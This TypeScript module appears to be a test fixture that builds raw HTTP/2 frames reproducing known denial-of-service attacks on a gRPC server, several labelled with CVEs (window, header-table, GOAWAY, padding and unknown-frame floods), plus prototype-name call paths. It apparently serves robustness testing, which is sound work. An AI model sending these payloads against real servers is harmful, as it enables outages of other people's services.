/** What callers say over HTTP/2 that brought others down, servers, libraries and gateways, with where it is told of. */
import { callHeaders, data, frame } from './frames.ts';
import { prefix } from './wire.ts';

const PROVIDER = '/tamma.provider.v1.IAIProvider';
const COUNT_TOKENS = `${PROVIDER}/CountTokens`;
const HEALTH_CHECK = '/grpc.health.v1.Health/Check';

const TYPE = { headers: 1, settings: 4, goaway: 7, windowUpdate: 8, priorityUpdate: 16 } as const;
const END_HEADERS = 4;
const PADDED = 8;
const HEADER_TABLE_SIZE = 1;
const INITIAL_WINDOW_SIZE = 4;
const LARGEST = 0x7fffffff;

const word = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

const setting = (id: number, value: number): Buffer =>
  frame(TYPE.settings, 0, 0, Buffer.concat([Buffer.from([0, id]), word(value)]));

const times = (count: number, make: (at: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));

/** A call that has no more to say. */
const whole = (stream: number, path: string): Buffer =>
  Buffer.concat([callHeaders(stream, path), data(stream, prefix(0, 0), true)]);

/** The header block of a call, and more behind it. */
const callWith = (stream: number, more: Uint8Array): Buffer => {
  const call = callHeaders(stream, COUNT_TOKENS).subarray(9);
  return frame(TYPE.headers, END_HEADERS, stream, Buffer.concat([call, more]));
};

export interface Habit {
  readonly name: string;
  readonly settings?: readonly (readonly [id: number, value: number])[];
  /** Whether answers are left unread. */
  readonly unread?: boolean;
  /** Said once. */
  readonly opening?: Buffer;
  /** Said again and again, each time with the next number of a stream. */
  readonly goesOn: (stream: number) => Buffer;
  /** How often in one go. */
  readonly atOnce: number;
}

/** Calls that wait for the rest of what they ask. */
const half = (count: number): Buffer => times(count, (at) => callHeaders(2 * at + 1, COUNT_TOKENS));

export const HABITS: readonly Habit[] = [
  {
    // CVE-2019-9517.
    name: 'answers into a window of 2 GiB that nobody reads',
    settings: [[INITIAL_WINDOW_SIZE, LARGEST]],
    unread: true,
    opening: frame(TYPE.windowUpdate, 0, 0, word(LARGEST - 65_535)),
    goesOn: (stream) => whole(stream, `${PROVIDER}/GetModels`),
    atOnce: 50,
  },
  {
    // CVE-2019-9511.
    name: 'answers drawn out by a byte of window',
    settings: [[INITIAL_WINDOW_SIZE, 0]],
    goesOn: (stream) =>
      Buffer.concat([
        whole(stream, `${PROVIDER}/GetModels`),
        times(50, () => frame(TYPE.windowUpdate, 0, stream, word(1))),
      ]),
    atOnce: 10,
  },
  {
    // CVE-2019-9516.
    name: 'headers without a name and a value',
    goesOn: (stream) => callWith(stream, Buffer.alloc(3 * 100)),
    atOnce: 50,
  },
  {
    // Each setting is told to all streams that are open.
    name: 'windows of 900 calls that open and close',
    opening: half(900),
    goesOn: (at) => setting(INITIAL_WINDOW_SIZE, at % 4 === 1 ? LARGEST : 0),
    atOnce: 1_000,
  },
  {
    // CVE-2016-1544, of nghttp2: tables that grow and shrink.
    name: 'tables of headers that change their size',
    goesOn: (stream) =>
      Buffer.concat([
        setting(HEADER_TABLE_SIZE, stream % 4 === 1 ? 0xffffffff : 0),
        frame(
          TYPE.headers,
          END_HEADERS,
          stream,
          Buffer.concat([
            times(1_000, (at) => (at % 2 ? Buffer.from([0x20]) : Buffer.from([0x3f, 0xe1, 0x1f]))),
            callHeaders(stream, COUNT_TOKENS).subarray(9),
          ]),
        ),
      ]),
    atOnce: 20,
  },
  {
    // CVE-2023-35945, of nghttp2 in Envoy.
    name: 'calls behind a GOAWAY',
    goesOn: (stream) =>
      Buffer.concat([
        frame(TYPE.goaway, 0, 0, Buffer.concat([word(0), word(0)])),
        times(100, (at) => whole(stream * 200 + 2 * at + 1, HEALTH_CHECK)),
      ]),
    atOnce: 1,
  },
  {
    // CVE-2023-33953, of gRPC.
    name: 'numbers in headers that do not end',
    goesOn: (stream) =>
      frame(
        TYPE.headers,
        END_HEADERS,
        stream,
        Buffer.concat([Buffer.from([0x7f]), Buffer.alloc(16_000, 0x80)]),
      ),
    atOnce: 10,
  },
  {
    // Those that are refused have resets that wait to be read.
    name: 'calls beyond all that may be open, unread',
    unread: true,
    opening: half(1_000),
    goesOn: (stream) => callHeaders(stream, COUNT_TOKENS),
    atOnce: 500,
  },
  {
    // CVE-2019-9518 and the like: frames that say nothing.
    name: 'data that is padding alone',
    opening: half(1),
    goesOn: () => frame(0, PADDED, 1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)])),
    atOnce: 500,
  },
  {
    name: 'frames of kinds that nobody knows',
    opening: half(1),
    goesOn: (at) =>
      frame(
        at % 8 === 1 ? TYPE.priorityUpdate : 0xbe,
        0xff,
        at % 8 === 1 ? 0 : 1,
        Buffer.alloc(100),
      ),
    atOnce: 500,
  },
  {
    name: 'methods that every object has',
    goesOn: (stream) => {
      const names = ['__proto__', 'constructor', '/constructor/toString', '/__proto__/x', '', '*'];
      return whole(stream, names[(stream >> 1) % names.length] ?? '');
    },
    atOnce: 100,
  },
];
